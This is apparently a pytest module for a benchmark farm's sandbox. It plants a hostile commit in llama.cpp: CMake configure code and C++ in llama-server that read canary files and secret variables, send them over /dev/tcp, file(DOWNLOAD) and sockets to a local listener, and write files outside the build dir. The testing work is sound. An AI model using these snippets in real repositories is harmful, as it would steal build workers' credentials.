"""A pull request's code, for real: a planted commit of the provisioned llama.cpp tree whose
top CMakeLists.txt (at configure time) and whose `llama-server` (first thing in its main,
so the `--version`/`--help` probes run it too) each try to

- read the canaries: a file in the worker's config dir (the test's fake
  `$HOME/.config/specfarm/canary`, beside the worker's config), a file in its data dir
  (FARM_DATA_DIR) and two variables of its environment (FARM_CANARY_SECRET and
  FARM_DATABASE_URL);
- reach a TCP listener this module runs on 127.0.0.1 and send what it read (the CMake
  code by bash's /dev/tcp and by `file(DOWNLOAD)`, the server by socket/connect);
- write a file outside its build dir: a folder of the test's, the fake `$HOME`, the
  operator's ccache and the top of the node's cache dir.

It is built and run by `farm run` and by a real `farm worker` (Celery, Redis, PostgreSQL)
with the sandbox on: the benchmark works, every run says it was sandboxed, the listener
sees no connection, no file appears, and the build log and every server log carry the
planted code's own line (it ran) saying it read nothing. With the sandbox off
(`FARM_SANDBOX=off`) the same commit reaches the canary files and the listener and writes
its files, so these tests can fail. (The worker's variables reach neither way: builds and
servers get a minimal environment whether sandboxed or not.)

Each test builds the commit in a cache dir of its own (so its configure runs the planted
CMake code); the node's ccache serves what the provisioned build compiled, so only the
configure, the commit's own translation units and the links cost time.
"""

from __future__ import annotations

import os
import secrets
import socketserver
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import Row, select
from sqlalchemy.orm import Session

from farm.store.db import make_engine
from farm.store.models import Campaign, Job, Run
from tests.e2e import planted
from tests.e2e.test_fleet import Fleet, shared_redis_fleet, wait_for
from tests.helpers import COPY_PROMPT
from workers.setup.provision import Provisioned

pytestmark = pytest.mark.server
FARM = str(Path(sys.executable).with_name("farm"))
TOP_CMAKE_LINE = 'project("llama.cpp" C CXX)\n'
SERVER_SOURCE = "tools/server/server.cpp"
SERVER_MAIN = "int llama_server(int argc, char ** argv) {\n"
CACHES = ("off", "on", "worker")  # a cache dir per test: each configures the commit


@dataclass
class Listener:
    """A TCP listener on 127.0.0.1: every connection's bytes (an HTTP request is answered
    200 and closed, so a download ends at once)."""

    port: int = 0
    received: list[bytes] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def take(self) -> list[bytes]:
        """What connections brought since the last take."""
        with self.lock:
            taken, self.received[:] = list(self.received), []
        return taken


def _serve(listener: Listener) -> socketserver.ThreadingTCPServer:
    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            data = b""
            self.request.settimeout(5)
            try:
                while chunk := self.request.recv(65536):
                    data += chunk
                    if b"\r\n\r\n" in data:
                        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
                        break
            except OSError:
                pass
            with listener.lock:
                listener.received.append(data)

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    listener.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@dataclass(frozen=True)
class World:
    """The worker's side the hostile commit goes for, and the commit."""

    root: Path
    home: Path  # the worker's (fake) home
    data: Path  # FARM_DATA_DIR of every test here
    plant: Path  # a folder outside any build dir
    ccache: Path  # the operator's ccache (CCACHE_DIR), which no job's build may write
    caches: dict[str, Path]  # each test's FARM_CACHE_DIR
    tokens: dict[str, str]  # canary name -> its secret value
    listener: Listener
    repo: Path
    commit: str

    @property
    def config(self) -> Path:
        return self.home / ".config" / "specfarm"

    @property
    def database(self) -> str:
        """`farm run`'s store, named in its environment (a canary too)."""
        return f"sqlite:///{self.data / 'farm.db'}"

    @property
    def url(self) -> str:
        return f"file://{self.repo}"

    def env(self, **extra: str) -> dict[str, str]:
        """The worker's environment: the fake home, the data dir, the secret variable."""
        return {**os.environ, "HOME": str(self.home), "FARM_DATA_DIR": str(self.data),
                "FARM_CANARY_SECRET": self.tokens["env"], **extra}

    def planted(self) -> list[Path]:
        """The files the commit's code wrote outside its build dir."""
        return sorted(path for folder in self.targets for path in folder.glob("planted-*"))

    @property
    def targets(self) -> list[Path]:
        """Where the commit's code tries to write."""
        return [self.plant, self.home, self.ccache, *self.caches.values()]

    def reset(self) -> None:
        """No planted file, nothing received: each test starts from here."""
        for path in self.planted():
            path.unlink()
        self.listener.take()


def cmake_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
    """Configure-time code: read the canaries, send them, write outside the build dir. Only
    `execute_process` and `file(DOWNLOAD)` touch the outside (their failures are not
    errors), so the configure goes on whatever the sandbox refuses. It logs one line of
    what it managed (no secret in it): the build log shows it ran."""
    files = " ".join(f'"{path}"' for path in reads)
    targets = " ".join(f'"{path / "planted-by-cmake"}"' for path in writes)
    return f"""
# --- planted: what a hostile pull request's CMakeLists could do ---
execute_process(COMMAND cat {files} OUTPUT_VARIABLE _hostile_files ERROR_QUIET)
string(LENGTH "${{_hostile_files}}" _hostile_read)
set(_hostile_got "from=cmake\\n${{_hostile_files}}\\n")
set(_hostile_secrets 0)
foreach(_hostile_name FARM_CANARY_SECRET FARM_DATABASE_URL)
  if(DEFINED ENV{{${{_hostile_name}}}})
    math(EXPR _hostile_secrets "${{_hostile_secrets}} + 1")
  endif()
  string(APPEND _hostile_got "env ${{_hostile_name}}=$ENV{{${{_hostile_name}}}}\\n")
endforeach()
file(WRITE "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_got}}")
set(_hostile_wrote "")
foreach(_hostile_target {targets})
  execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt" "${{_hostile_target}}"
                  RESULT_VARIABLE _hostile_copied ERROR_QUIET)
  if(_hostile_copied EQUAL 0)
    string(APPEND _hostile_wrote " ${{_hostile_target}}")
  endif()
endforeach()
# The node's ccache, which a job's build reads and may not write (planted() looks there).
execute_process(COMMAND cp "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
                        "$ENV{{CCACHE_DIR}}/planted-by-cmake"
                RESULT_VARIABLE _hostile_ccache ERROR_QUIET)
execute_process(COMMAND bash -c "cat \\"$0\\" > /dev/tcp/127.0.0.1/{port}"
                        "${{CMAKE_BINARY_DIR}}/hostile-got.txt"
                RESULT_VARIABLE _hostile_tcp ERROR_QUIET TIMEOUT 10)
file(DOWNLOAD "http://127.0.0.1:{port}/cmake-download/$ENV{{FARM_CANARY_SECRET}}"
     "${{CMAKE_BINARY_DIR}}/hostile-download.txt" TIMEOUT 10 STATUS _hostile_download)
list(GET _hostile_download 0 _hostile_download)
message(STATUS "hostile-cmake: read ${{_hostile_read}} canary bytes, "
               "${{_hostile_secrets}} secret variables, wrote [${{_hostile_wrote}} ], "
               "listener: bash ${{_hostile_tcp}} curl ${{_hostile_download}}, "
               "ccache $ENV{{CCACHE_DIR}}: ${{_hostile_ccache}}")
# --- end of planted ---
"""


def server_snippet(reads: list[Path], writes: list[Path], port: int) -> str:
    """The same from `llama-server`, POSIX calls only; it returns and the server goes on.
    Outside the `--version`/`--help` probes it logs one line of what it managed (no
    secret in it): the server log shows it ran."""
    files = ", ".join(f'"{path}"' for path in reads)
    targets = ", ".join(f'"{path / "planted-by-server"}"' for path in writes)
    return f"""
// --- planted: what a hostile pull request's llama-server could do ---
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

static std::string hostile_slurp(const char * path) {{
    std::string text;
    if (FILE * file = std::fopen(path, "rb")) {{
        char buffer[512];
        size_t n;
        while ((n = std::fread(buffer, 1, sizeof buffer, file)) > 0) {{
            text.append(buffer, n);
        }}
        std::fclose(file);
    }}
    return text;
}}

static void hostile_try(int argc, char ** argv) {{
    std::string got = "from=server pid=" + std::to_string(getpid()) + "\\n";
    size_t read = 0;
    for (const char * path : {{{files}}}) {{
        std::string text = hostile_slurp(path);
        read += text.size();
        got += std::string("file ") + path + "=" + text + "\\n";
    }}
    int secrets = 0;
    for (const char * name : {{"FARM_CANARY_SECRET", "FARM_DATABASE_URL"}}) {{
        const char * value = std::getenv(name);
        secrets += value != nullptr;
        got += std::string("env ") + name + "=" + (value ? value : "") + "\\n";
    }}
    std::string wrote;
    for (const char * path : {{{targets}}}) {{
        if (FILE * file = std::fopen(path, "a")) {{
            std::fputs(got.c_str(), file);
            std::fclose(file);
            wrote += std::string(" ") + path;
        }}
    }}
    std::string reached = "no socket";
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0) {{
        sockaddr_in address{{}};
        address.sin_family = AF_INET;
        address.sin_port = htons({port});
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0) {{
            ssize_t sent = write(fd, got.data(), got.size());
            reached = sent > 0 ? "sent" : "connected";
        }} else {{
            reached = std::strerror(errno);
        }}
        close(fd);
    }}
    for (int i = 1; i < argc; i++) {{
        if (!std::strcmp(argv[i], "--version") || !std::strcmp(argv[i], "--help")) {{
            return;
        }}
    }}
    std::fprintf(stderr, "hostile-server: read %zu canary bytes, %d secret variables, "
                 "wrote [%s ], listener: %s\\n", read, secrets, wrote.c_str(), reached.c_str());
}}
// --- end of planted ---

"""


def plant_hostile(repo: Path, reads: list[Path], writes: list[Path], port: int) -> None:
    """The hostile commit's changes: the CMake code after `project()`, the server's at the
    start of `llama_server(argc, argv)` (main calls it first)."""
    planted.edit(repo / "CMakeLists.txt", TOP_CMAKE_LINE,
                 TOP_CMAKE_LINE + cmake_snippet(reads, writes, port))
    planted.edit(repo / SERVER_SOURCE, SERVER_MAIN, server_snippet(reads, writes, port)
                 + SERVER_MAIN + "    hostile_try(argc, argv);\n")


@pytest.fixture(scope="module")
def world(provisioned: Provisioned, tmp_path_factory: pytest.TempPathFactory
          ) -> Iterator[World]:
    root = tmp_path_factory.mktemp("hostile")
    home, data, plant = root / "home", root / "data", root / "plant"
    config = home / ".config" / "specfarm"
    caches = {name: root / f"cache-{name}" for name in CACHES}
    for folder in (config, data, plant, *caches.values()):
        folder.mkdir(parents=True)
    tokens = {name: f"CANARY-{name}-{secrets.token_hex(8)}" for name in ("config", "data", "env")}
    (config / "canary").write_text(tokens["config"] + "\n")
    (data / "canary").write_text(tokens["data"] + "\n")
    listener = Listener()
    server = _serve(listener)
    repo = root / "llama.cpp"
    planted.sdist_repository(repo, "A: b11434 from the sdist")
    world = World(root, home, data, plant, Path(os.environ["CCACHE_DIR"]), caches, tokens,
                  listener, repo, "")
    # Outside the build dir: a folder of the test's, the worker's home, the operator's
    # ccache, and the top of each test's cache dir (where the node's builds live).
    plant_hostile(repo, [config / "canary", data / "canary"], world.targets, listener.port)
    commit = planted.commit(repo, "B: a pull request that goes for the worker's secrets")
    try:
        yield replace(world, commit=commit)
    finally:
        world.reset()
        server.shutdown()
        server.server_close()


def _matrix(path: Path, campaign: str, build: dict[str, str], model: dict[str, str],
            **extra: object) -> Path:
    """SmolLM2, baseline against ngram-simple, one prompt, one pair: the benchmark works."""
    path.write_text(yaml.safe_dump({
        "campaign": campaign, "build": build, "models": [model], "prompts": [COPY_PROMPT],
        "n-predict": 16, "repetitions": 1, "pairs": 1, "max-pairs": 1,
        "flags": {"ctx-size": 256, "threads": 1},
        "variants": [{"name": "ngram", "flags": {"spec-type": "ngram-simple"}}], **extra}))
    return path


def _runs(database_url: str, campaign: str) -> list[Row[Any]]:
    engine = make_engine(database_url)
    try:
        with Session(engine) as session:
            return list(session.execute(
                select(Run.arm, Run.build_commit, Run.generated_tokens, Run.decode_tok_s,
                       Run.sandboxed, Run.server_log, Run.worker_name)
                .join(Job).join(Campaign).where(Campaign.name == campaign)))
    finally:
        engine.dispose()


def _farm_run(world: World, tmp_path: Path, smollm2: Path, cache: str,
              **env: str) -> tuple[list[Row[Any]], float]:
    """`farm run` of the hostile commit as a worker would run it (its home, data dir,
    database URL and secret in its environment), built in cache dir ``cache``; the
    campaign's runs and the seconds it took."""
    campaign = f"hostile-{cache}"
    matrix = _matrix(tmp_path / "matrix.yaml", campaign,
                     {"name": "pr", "git": world.url, "ref": world.commit},
                     {"name": "smollm2", "path": str(smollm2)})
    started = time.monotonic()
    result = subprocess.run(
        [FARM, "run", str(matrix)], capture_output=True, text=True, timeout=1800, check=False,
        env=world.env(FARM_CACHE_DIR=str(world.caches[cache]),
                      FARM_DATABASE_URL=world.database, **env))
    seconds = time.monotonic() - started
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-5000:]
    return _runs(world.database, campaign), seconds


def _assert_benchmarked(runs: list[Row[Any]], commit: str, *, sandboxed: bool) -> None:
    """Both arms measured on the commit, each run recording the sandbox."""
    assert sorted(run.arm for run in runs) == ["baseline", "variant"], runs
    assert {run.build_commit for run in runs} == {commit}
    assert all(run.generated_tokens > 0 and run.decode_tok_s > 0 for run in runs)
    assert {run.sandboxed for run in runs} == {sandboxed}


def _assert_held(world: World, runs: list[Row[Any]], cache: str) -> str:
    """The commit's code ran (its CMake code in this cache dir's build, its line in every
    server's log) and got nothing: no connection, no planted file, no canary in what it
    kept. What it says it got, for the report."""
    received = world.listener.take()
    assert received == [], f"the listener got {len(received)} connections: {received!r}"
    assert not world.planted(), world.planted()
    # This test's configure ran the CMake code (its build log says what it got).
    [cmake] = [line for log in world.caches[cache].rglob("build-specfarm-*.log")
               for line in log.read_text().splitlines() if "hostile-cmake:" in line]
    # (What it "wrote" inside may have landed on the sandbox's own /tmp: what counts is
    # that nothing appeared outside.)
    assert "read 0 canary bytes, 0 secret variables, wrote" in cmake, cmake
    assert "listener: bash 0 " not in cmake and " curl 0," not in cmake, cmake
    lines = [cmake.split("hostile-cmake:", 1)[1].strip()]
    for run in runs:
        server_log = Path(run.server_log).read_text()
        [line] = [line for line in server_log.splitlines() if "hostile-server:" in line]
        assert "read 0 canary bytes, 0 secret variables, wrote" in line, line
        lines.append(line.split("hostile-server:", 1)[1].strip())
    for log in [*world.caches[cache].rglob("build-specfarm-*.log"),
                *(Path(run.server_log) for run in runs)]:
        text = log.read_text()
        assert not any(token in text for token in world.tokens.values()), log
    return "; ".join(dict.fromkeys(lines))


def test_sandbox_off_the_planted_commit_reaches_every_canary(
        world: World, tmp_path: Path, smollm2: Path) -> None:
    """The control: without the sandbox the commit's CMake code and its server reach the
    listener with the canaries and write their files (the sandboxed tests can fail)."""
    world.reset()
    runs, seconds = _farm_run(world, tmp_path, smollm2, "off", FARM_SANDBOX="off")
    _assert_benchmarked(runs, world.commit, sandboxed=False)
    received = [data.decode(errors="replace") for data in world.listener.take()]
    by_origin = {origin: [text for text in received if origin in text]
                 for origin in ("from=cmake", "cmake-download", "from=server")}
    assert all(by_origin.values()), received
    # Their files are what both reach; the worker's variables neither may (the farm hands
    # builds and servers a minimal environment, sandbox or not): said, not required.
    for text in by_origin["from=cmake"] + by_origin["from=server"]:
        assert world.tokens["config"] in text and world.tokens["data"] in text, text
    variables = [name for name, value in (("FARM_CANARY_SECRET", world.tokens["env"]),
                                          ("FARM_DATABASE_URL", world.database))
                 if any(value in text for text in received)]
    names = {(path.parent, path.name) for path in world.planted()}
    assert names == {(folder, f"planted-by-{who}") for folder in world.targets
                     for who in ("cmake", "server")}, names
    for run in runs:
        assert "listener: sent" in Path(run.server_log).read_text()
    [cmake] = [line for log in world.caches["off"].rglob("build-specfarm-*.log")
               for line in log.read_text().splitlines() if "hostile-cmake:" in line]
    assert "listener: bash 0 curl 0," in cmake, cmake
    print(f"\nsandbox off: farm run {seconds:.0f} s; the listener got {len(received)} "
          f"connections ({', '.join(f'{k}: {len(v)}' for k, v in by_origin.items())}), "
          f"{len(names)} files planted; variables that reached it: {variables or 'none'}")
    world.reset()


def test_farm_run_sandboxed_the_commit_benchmarks_and_reaches_nothing(
        world: World, tmp_path: Path, smollm2: Path) -> None:
    world.reset()
    runs, seconds = _farm_run(world, tmp_path, smollm2, "on")
    _assert_benchmarked(runs, world.commit, sandboxed=True)
    got = _assert_held(world, runs, "on")
    print(f"\nsandbox on: farm run {seconds:.0f} s; the commit got: {got}")


@pytest.fixture
def fleet(tmp_path: Path, postgres_url: str, smollm2: Path) -> Iterator[Fleet]:
    with shared_redis_fleet(tmp_path, smollm2, postgres_url) as fleet:
        yield fleet


def test_a_worker_builds_and_runs_the_commit_sandboxed_and_it_reaches_nothing(
        world: World, fleet: Fleet) -> None:
    """A real `farm worker` (its config beside the canary in its config dir, its data dir
    holding the other, the database URL and the secret in its environment) that allows
    the source builds the commit and runs the job; the sandbox is its default."""
    world.reset()
    config = world.config / "worker.yaml"
    config.write_text(yaml.safe_dump({"name": "hostile", "gpu-class": "hostile",
                                      "models-dir": str(fleet.models),
                                      "sources": [world.url]}))
    log = (fleet.root / "hostile.log").open("wb")
    fleet.workers["hostile"] = subprocess.Popen(
        [FARM, "worker", "--config", str(config)], stdout=log, stderr=subprocess.STDOUT,
        env={**fleet.env, "HOME": str(world.home), "FARM_DATA_DIR": str(world.data),
             "FARM_CANARY_SECRET": world.tokens["env"],
             "FARM_CACHE_DIR": str(world.caches["worker"])}, start_new_session=True)
    wait_for(lambda: " live " in fleet.farm("workers").stdout, 120, "the worker to register")
    matrix = _matrix(fleet.root / "hostile.yaml", "hostile-worker",
                     {"name": "pr", "git": world.url, "ref": "master"},
                     {"name": "smollm2", "file": "smollm2.gguf"}, **{"gpu-classes": ["hostile"]})
    started = time.monotonic()
    submitted = fleet.farm("submit", str(matrix))
    assert submitted.returncode == 0, submitted.stderr
    wait_for(lambda: all(job.state in ("done", "failed") for job in fleet.jobs()), 600,
             "the job")
    seconds = time.monotonic() - started
    [job] = fleet.jobs()
    assert job.state == "done", (job.error, fleet.logs()[-5000:])
    runs = _runs(fleet.env["FARM_DATABASE_URL"], "hostile-worker")
    _assert_benchmarked(runs, world.commit, sandboxed=True)
    assert {run.worker_name for run in runs} == {"hostile"}
    got = _assert_held(world, runs, "worker")
    print(f"\nworker, sandbox on: job {seconds:.0f} s after submit; the commit got: {got}")
